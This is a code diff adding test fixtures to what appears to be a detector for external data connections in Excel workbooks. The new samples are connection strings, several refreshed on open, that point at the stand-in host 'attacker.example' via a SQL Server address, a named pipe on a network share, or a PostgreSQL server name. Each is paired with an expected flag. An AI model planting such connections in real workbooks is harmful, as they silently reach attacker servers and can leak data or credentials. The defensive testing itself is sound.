@@ -579,6 +579,13 @@ _X15_OLEDB = (  # Excel 2013's data model connection, in an extension of the con
     '<x15:oledbPr connection="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.'
     'example\\s\\m.accdb"/></x15:connection></ext></extLst>'
 )
+# a server under a driver's other name for it (SQL Server's Address, psqlODBC's Servername)
+_ADDRESS_DB = '<dbPr connection="Provider=SQLOLEDB;Address=attacker.example,1433;Initial Catalog=crm" command="t"/>'  # noqa: E501
+_PIPE_DB = '<dbPr connection="Provider=SQLOLEDB;Network Address=\\\\attacker.example\\pipe\\sql\\query" command="t"/>'  # noqa: E501
+_SERVERNAME_DB = '<dbPr connection="Driver={PostgreSQL Unicode};Servername=attacker.example;Database=crm" command="t"/>'  # noqa: E501
+_DSN_DB = '<dbPr connection="DSN=Orders;UID=agent" command="SELECT * FROM orders"/>'
+# Excel 2013's data model: its connection reads the model kept in the workbook
+_MODEL = '<dbPr connection="Data Model Connection" command="Model" commandType="1"/>'
 EXTERNAL_DATA: list[tuple[str, str, Callable[[], bytes], str | None]] = [
     ("xlsx-web-query", "orders.xlsx", partial(_connected_book, _connection(_WEB)), "EXTERNAL_LINK"),
     (
@@ -643,6 +650,17 @@ EXTERNAL_DATA: list[tuple[str, str, Callable[[], bytes], str | None]] = [
     ),
     ("xlsx-database-by-server-name", "orders.xlsx",
      partial(_connected_book, _connection(_SERVER_DB)), None),
+    ("xlsx-database-by-address-refreshed-on-open", "orders.xlsx",
+     partial(_connected_book, _connection(_ADDRESS_DB, refresh=True)), "EXTERNAL_LINK"),
+    ("xlsx-database-by-named-pipe-on-a-share", "orders.xlsx",
+     partial(_connected_book, _connection(_PIPE_DB)), "EXTERNAL_LINK"),
+    ("xlsx-database-by-servername-refreshed-on-open", "orders.xlsx",
+     partial(_connected_book, _connection(_SERVERNAME_DB, refresh=True)), "EXTERNAL_LINK"),
+    ("xlsx-database-by-dsn-refreshed-on-open", "orders.xlsx",
+     partial(_connected_book, _connection(_DSN_DB, refresh=True)), "EXTERNAL_LINK"),
+    ("xlsx-database-by-dsn", "orders.xlsx", partial(_connected_book, _connection(_DSN_DB)), None),
+    ("xlsx-data-model-refreshed-on-open", "orders.xlsx",
+     partial(_connected_book, _connection(_MODEL, refresh=True)), None),
     (
         "docx-mail-merge-local-workbook",
         "letter.docx",
